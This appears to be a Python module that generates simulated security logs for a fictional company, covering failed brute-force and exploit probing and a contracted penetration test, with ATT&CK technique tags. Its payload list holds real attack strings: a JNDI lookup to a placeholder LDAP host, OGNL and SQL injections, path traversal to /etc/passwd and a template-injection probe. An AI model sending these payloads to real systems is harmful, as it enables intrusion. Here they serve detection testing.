"""Many addresses try what they can and get nowhere; and testers who were hired do what attackers do."""

from __future__ import annotations

from watchfloor.testing.company.attacks.plan import Attack
from watchfloor.testing.company.clock import HOUR, MINUTE, SECOND
from watchfloor.testing.company.internet import anywhere
from watchfloor.testing.company.world import World

_TRIED = (
    "/track/$%7Bjndi:ldap://192.0.2.66:1389/a%7D", "/bookings/search?q=%25%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D",
    "/manager/html", "/WEB-INF/classes/application.properties", "/static/..;/manager/status", "/actuator/env",
    "/track/MF81000000%27%7C%7Cpg_sleep(9)--", "/solr/admin/cores", "/assets/..%252f..%252f..%252fetc/passwd",
    "/struts2-showcase/index.action",
)  # fmt: skip
_NAMES = ("edi", "sftp", "ftpuser", "harbourline", "root", "transfer", "upload", "invoice", "oracle", "deploy")
_ROOTS = frozenset({"root"})
_SCANNER = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
_PORTS = (22, 53, 80, 88, 135, 139, 389, 443, 445, 636, 1433, 3389, 5432, 5985, 8080, 8443, 9100)


def guessed_by_many(world: World, *, day: int, time: str, country: str, addresses: int) -> Attack:
    """A handful of addresses abroad share the work: names of staff at VPN and mail, SFTP, old holes; nothing works."""
    attack = Attack("failed", "Addresses abroad share the guessing, and get nowhere", "low", world)
    random, products = world.chance("attack:failed"), world.products
    sources = [anywhere(random, country, "home").address for _ in range(addresses)]
    at = world.week.at(day, time)
    with attack.step(at, "Partners' names are guessed at the SFTP server", "T1110.001", *sources):
        linux = products.linux["transfer"]
        for number in range(240):
            name = _NAMES[number % len(_NAMES)]
            linux.ssh_refused(at + number * 13 * SECOND, name, sources[number % addresses], known=name in _ROOTS)
    at += HOUR
    with attack.step(
        at, "Each name of the staff is tried once at the VPN, from changing addresses", "T1110.003", *sources
    ):
        for number in range(len(world.staff)):
            products.vpn.refused(at + number * 24 * SECOND, sources[number % addresses])
    at += 40 * MINUTE
    with attack.step(at, "Each name of the staff is tried at sending mail, twice", "T1110.003", *sources):
        for number, person in enumerate(world.staff * 2):
            products.mail.smtp_refused(at + number * 17 * SECOND, person.account, sources[number % addresses])
    at += 45 * MINUTE
    target = world.server("shop").name
    with attack.step(at, "The portal refuses old holes of Java and of others", "T1190", target, *sources):
        for number in range(280):
            path = _TRIED[number % len(_TRIED)]
            status = 400 if "%25" in path or "$" in path else 404
            products.shop.request(
                at + number * 4 * SECOND,
                sources[number % addresses],
                path,
                status=status,
                size=1_064,
                agent="Mozilla/5.0",
            )
    return attack


def tested_by_contract(world: World, *, day: int, time: str, outside: str, inside: str, lent: str) -> Attack:
    """Hired testers at the addresses that the policy names; inside they use the account that was lent to them."""
    attack = Attack("pentest", "A penetration test that the policy announces", "low", world)
    at = world.week.at(day, time)
    _portals_tested(attack, at, outside)
    _network_swept(attack, at + 95 * MINUTE, inside)
    _domain_tested(attack, at + 150 * MINUTE, inside, lent)
    return attack


def _portals_tested(attack: Attack, at: int, outside: str) -> None:
    world = attack.world
    what = "Both portals are tested from outside, one answers a test of its templates"
    with attack.step(at, what, "T1190", outside, world.server("shop").name, world.server("portal").name):
        for number in range(520):
            path = ("/bookings/search?q=%7B%7B7*7%7D%7D", *_TRIED)[number % 11]
            product = world.products.portal if number % 4 == 3 else world.products.shop
            status = 200 if path.startswith("/bookings/search?q=%7B") and number % 4 != 3 else 404
            product.request(
                at + number * 5 * SECOND,
                outside,
                path,
                status=status,
                size=9_100 if status == 200 else 1_064,
                agent=_SCANNER,
            )
    at += 50 * MINUTE
    with attack.step(at, "The VPN's page is tried with the account that was lent", "T1110.001", outside):
        for number in range(12):
            world.products.vpn.refused(at + number * 40 * SECOND, outside)


def _network_swept(attack: Attack, at: int, inside: str) -> None:
    world = attack.world
    random = world.chance("attack:pentest")
    with attack.step(at, "Servers and printers are swept from inside", "T1046", inside):
        for machine in world.machines:
            if "server" in machine.roles or machine.kind == "printer":
                for port in _PORTS:
                    at += random.randrange(30, 160) * 1000
                    denied = random.random() < 0.75
                    world.products.firewall.session(
                        at, inside, machine.address, port, denied=denied, sent=104, received=0 if denied else 88
                    )


def _domain_tested(attack: Attack, at: int, inside: str, lent: str) -> None:
    world, windows = attack.world, attack.world.products.windows
    controller, account = world.server("controller").name, world.account(world.person(lent))
    what = "The lent account asks for tickets of all service accounts, in an old encryption"
    with attack.step(at, what, "T1558.003", inside, lent):
        windows.ticket(at, controller, account, inside)
        for number, service in enumerate(world.names.roastable):
            windows.service_ticket(at + (number + 2) * 350_000, controller, account, inside, service, encryption="0x17")
    at += 20 * MINUTE
    with attack.step(at, "Three passwords are tried for every account of the domain", "T1110.003", inside):
        for number, person in enumerate(world.staff * 3):
            windows.ticket(at + number * 6 * SECOND, controller, world.account(person), inside, status="0x18")
    at += 40 * MINUTE
    with attack.step(at, "The shares of every server are asked for with the lent account", "T1135", inside, lent):
        for number, machine in enumerate(
            each for each in world.machines if each.kind == "windows" and "server" in each.roles
        ):
            moment = at + number * 3 * SECOND
            windows.service_ticket(moment, controller, account, inside, world.machine_account(machine))
            logon = windows.logged_on(moment + 200_000, machine.name, account, address=inside, seconds=4)
            windows.shared(moment + 400_000, machine.name, account, logon, inside, "IPC$", "srvsvc", "0x120089")
